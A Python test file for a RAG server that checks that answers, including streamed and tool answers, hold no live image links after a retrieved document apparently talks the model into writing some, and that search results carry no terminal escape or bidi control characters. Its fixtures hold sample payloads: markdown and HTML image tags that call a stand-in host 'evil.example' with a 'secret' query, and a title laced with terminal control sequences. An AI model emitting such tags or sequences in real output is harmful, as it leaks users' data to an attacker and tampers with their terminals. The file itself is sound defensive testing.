"""A document talked the model into writing a picture: on no way out of the server does a client load it."""

from __future__ import annotations

import json
from typing import Any

import pytest
from mcp import Client
from starlette.testclient import TestClient

from ragkit.rag import RAG
from ragkit.server.service import Service
from ragkit.server.tools import make_tools
from ragkit.server.workspace import Workspace
from tests.fakes import ScriptedEngine
from tests.server.conftest import QUESTION, ask

SAID = "The finance director approves it [1]. ![x](http://evil.example/?q=secret) <img src=http://evil.example/y>"
LIVE = ("![", "<img")


@pytest.fixture(autouse=True)
def engine(service: Service, monkeypatch: pytest.MonkeyPatch) -> ScriptedEngine:
    made = ScriptedEngine(f"See {SAID}|{SAID}")
    rag = RAG(service.workspace().index("rules"), model=made, home=service.workspace().home, strategy="cot")
    monkeypatch.setattr(Workspace, "rag", lambda self, index, model=None: rag)
    return made


def loads_nothing(text: str) -> None:
    assert "evil.example" in text
    assert [live for live in LIVE if live in text.lower()] == []


def test_chat_completions_whole_and_streamed(client: TestClient) -> None:
    whole = client.post("/v1/chat/completions", json=ask()).json()
    message: dict[str, Any] = whole["choices"][0]["message"]
    loads_nothing(message["content"])
    loads_nothing(message["reasoning"])
    with client.stream("POST", "/v1/chat/completions", json=ask(stream=True)) as reply:
        lines = [line.removeprefix("data: ") for line in reply.iter_lines() if line.startswith("data: {")]
    deltas = [json.loads(line)["choices"][0]["delta"] for line in lines]
    assert "".join(d.get("content") or "" for d in deltas) == message["content"]
    loads_nothing("".join(d.get("reasoning") or "" for d in deltas))


def test_the_api_s_own_answers(client: TestClient) -> None:
    told = client.post("/api/ask", json={"index": "rules", "question": QUESTION}).json()
    loads_nothing(told["text"])


async def test_the_tools_answers(service: Service) -> None:
    async with Client(make_tools(service)) as tools:
        told = await tools.call_tool("ask", {"index": "rules", "question": QUESTION})
    loads_nothing(told.structured_content["text"])


async def test_the_tools_texts_hold_nothing_that_a_terminal_obeys(service: Service) -> None:
    hostile = "Moorings \x1b]0;owned\x07\x1b[2J\x9b31m\u202eback\u202c are approved by the harbour master."
    service.workspace().add("rules", texts=[{"id": "h", "title": hostile, "text": hostile}])
    async with Client(make_tools(service)) as tools:
        told = await tools.call_tool("search", {"index": "rules", "query": "Who approves moorings?"})
    found = json.dumps(told.structured_content, ensure_ascii=False)
    assert "harbour" in found
    assert not [c for c in "\x1b\x07\x9b\u202e\u202c" if c in found or f"\\u{ord(c):04x}" in found]
